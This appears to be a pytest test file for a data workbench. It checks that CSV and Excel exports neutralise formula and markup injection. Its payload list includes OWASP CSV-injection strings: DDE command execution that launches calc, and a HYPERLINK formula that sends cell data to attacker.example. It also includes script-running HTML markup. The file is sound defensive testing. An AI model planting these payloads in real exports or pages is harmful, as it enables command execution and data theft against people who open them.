"""Formula and markup payloads in every text column of the store: no export hands out a live formula.

Every CSV file and workbook the workbench writes goes through one writer
(:mod:`workbench.exchange.writers`). The store below holds payloads in every text column of every
table (written straight into the store, so even columns the row checks would refuse on import carry
them); each export is run and every cell of what it wrote is read back.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa

from tests.conftest import ROOT
from workbench.config import Settings
from workbench.exchange.exports import export_bytes, export_data
from workbench.exchange.ingest import import_path
from workbench.exchange.writers import FORMULA_PREFIXES, csv_bytes, formula_safe, neutralise_formula
from workbench.format.schema import FORMAT
from workbench.store import open_store

DEFAULT = ROOT / "sample_data" / "default"
KEY = "a-secret-key-of-the-exporting-administration"

#: OWASP CSV-injection payloads, and markup that would run script where text is put in a page as HTML.
FORMULAS = [
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u00a0@SUM(A1)",
]
MARKUP = ['<img src=x onerror="window.__pwned=1">', "<script>window.__pwned=1</script>"]
PAYLOADS = FORMULAS + MARKUP


def live_formula(cell: object) -> bool:
    """Whether a spreadsheet would evaluate ``cell`` (text read back from a CSV or a workbook)."""
    if not isinstance(cell, str) or not cell:
        return False
    if cell[0] in ("\t", "\r"):
        return True
    head = cell.lstrip(" \u00a0\t\r\n")
    if not head or head[0] not in FORMULA_PREFIXES:
        return False
    # "+221 77 ..." or "-3.5": a number, not a formula (nothing to call or reference)
    return head[0] in "=@" or re.fullmatch(r"[+-][\d\s.,()/-]*", head.rstrip()) is None


def test_live_formula_check_can_fail() -> None:
    assert all(live_formula(p) for p in FORMULAS)
    assert not any(live_formula(neutralise_formula(p)) for p in FORMULAS)
    assert not live_formula("+221 77 123 45 67") and not live_formula("-3.5")


@pytest.mark.parametrize("payload", FORMULAS)
def test_neutralised_formula_keeps_its_text(payload: str) -> None:
    assert neutralise_formula(payload) == "'" + payload


def test_numbers_and_phones_stay_as_they_are() -> None:
    df = pd.DataFrame(
        {"n": [-1, 2], "x": [-1.5, 0.25], "phone": ["+33 6 12 34 56 78", "-"], "d": ["2024-01-02"] * 2}
    )
    out = formula_safe(df)
    assert out["n"].tolist() == [-1, 2] and str(out["n"].dtype) == "int64"
    assert out["x"].tolist() == [-1.5, 0.25]
    assert out["phone"].tolist() == ["+33 6 12 34 56 78", "-"]
    assert csv_bytes(df).decode().splitlines()[1] == "-1,-1.5,+33 6 12 34 56 78,2024-01-02"


# ------------------------------------------------------------------ a store full of payloads
@pytest.fixture(scope="module")
def payload_store(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A 300-case sample, with payloads written into every text column of every table (keys kept)."""
    from workbench.exchange.files import write_dataset
    from workbench.sample.generator import generate

    d = tmp_path_factory.mktemp("inject")
    write_dataset(generate(300, seed=11).tables, d / "sample")
    url = f"sqlite:///{d / 'inject.db'}"
    store = open_store(url)
    rep = import_path(d / "sample", store)
    assert rep.status == "accepted", rep.rejections[:3]
    cycle = itertools.cycle(PAYLOADS)
    meta = sa.MetaData()
    meta.reflect(store.engine)
    with store.engine.begin() as c:
        for name, spec in FORMAT.tables.items():
            t = meta.tables[name]
            keys = set(spec.key) | {"case_id", "reporting_country"}
            text_cols = [
                col.name
                for col in t.columns
                if isinstance(col.type, sa.String) and col.name not in keys and not col.name.startswith("_")
            ]
            for col in text_cols:
                rows = sa.select(t.c.case_id).limit(60).scalar_subquery()
                c.execute(t.update().where(t.c.case_id.in_(rows)).values({col: next(cycle)}))
    return url


def _settings(role: str = "analyst") -> Settings:
    return Settings.from_env(
        {"WORKBENCH_ROLE": role, "WORKBENCH_USER": "inject-test", "WORKBENCH_PSEUDONYM_KEY": KEY}
    )


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row]


def _xlsx_cells(data: bytes) -> list[tuple[str, object]]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    out.append((cell.coordinate, "FORMULA:" + str(cell.value)))
                elif cell.value is not None:
                    out.append((cell.coordinate, cell.value))
    return out


def _assert_inert(cells: list[object], where: str) -> int:
    live = [c for c in cells if (isinstance(c, str) and c.startswith("FORMULA:")) or live_formula(c)]
    assert not live, f"{where}: live formulas {live[:5]}"
    # the payloads did reach the export: it is the writer that made them inert, not an empty file
    return sum(1 for c in cells if isinstance(c, str) and c[:1] == "'" and live_formula(c[1:]))


def _files_cells(paths: list[Path]) -> list[object]:
    cells: list[object] = []
    for p in paths:
        if p.suffix == ".xlsx":
            cells += [v for _, v in _xlsx_cells(p.read_bytes())]
        else:
            cells += _csv_cells(p.read_bytes())
    return cells


@pytest.mark.parametrize(
    ("kind", "suffix", "role"),
    [
        ("exchange", "", "analyst"),
        ("exchange", ".xlsx", "analyst"),
        ("non_personal", "", "viewer"),
        ("non_personal", ".xlsx", "viewer"),
        ("pseudonymised", "", "analyst"),
        ("formatted", ".xlsx", "analyst"),
        ("formatted", ".xlsx", "viewer"),
    ],
)
def test_exports_hold_no_live_formula(
    payload_store: str, tmp_path: Path, kind: str, suffix: str, role: str
) -> None:
    res = export_data(
        open_store(payload_store),
        tmp_path / f"out{suffix}",
        kind,
        legal_basis="test of formula injection",
        settings=_settings(role),
    )
    neutralised = _assert_inert(_files_cells(res.paths), f"{kind}{suffix}")
    assert neutralised > 0, f"{kind}{suffix}: no payload reached the export"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_downloads_hold_no_live_formula(payload_store: str, fmt: str) -> None:
    data, name, _ = export_bytes(
        open_store(payload_store), "exchange", fmt=fmt, legal_basis="test", settings=_settings()
    )
    if name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            cells = [c for n in z.namelist() for c in _csv_cells(z.read(n))]
    else:
        cells = [v for _, v in _xlsx_cells(data)]
    assert _assert_inert(cells, name) > 0


def test_statistics_and_app_csv_hold_no_live_formula(payload_store: str) -> None:
    from workbench.store.queries import load_table
    from workbench.trends.statistics import table_csv

    cases = load_table(open_store(payload_store), "cases", personal_allowed=True)
    table = cases.groupby("place_name", dropna=False).size().rename("cases").reset_index()
    assert _assert_inert(_csv_cells(table_csv(table)), "statistics CSV") > 0
    # a pivot whose column names come from the data
    pivot = cases.pivot_table(
        index="reporting_country", columns="remarks", values="latitude", aggfunc="count"
    )
    assert _assert_inert(_csv_cells(csv_bytes(pivot.reset_index())), "pivot CSV") > 0


def test_risk_score_csv_holds_no_live_formula(tmp_path: Path) -> None:
    from workbench.cli import main
    from workbench.risk.traffic import read_traffic, sample_traffic_path

    t = read_traffic(sample_traffic_path()).frame.iloc[:200].copy()
    cycle = itertools.cycle(FORMULAS)
    for c in ("place_name", "conveyance_id", "place_code"):  # the traffic file's free text
        t[c] = t[c].astype(object)
        t.loc[t.index[::3], c] = next(cycle)
    src = tmp_path / "traffic.csv"
    t.to_csv(src, index=False)  # raw, as a hostile sender would
    indicators = ROOT / "sample_data" / "indicators" / "sample-indicators.yaml"
    out = tmp_path / "scored.csv"
    assert main(["risk", "score", "--indicators", str(indicators), str(src), "--out", str(out), "--all"]) == 0
    assert _assert_inert(_csv_cells(out.read_bytes()), "risk score CSV") > 0


def test_flows_cli_csv_holds_no_live_formula(payload_store: str, tmp_path: Path) -> None:
    from workbench.cli import main

    out = tmp_path / "flows.csv"
    assert main(["flows", "--db", payload_store, "--out", str(out)]) == 0
    _assert_inert(_csv_cells(out.read_bytes()), "flows CSV")
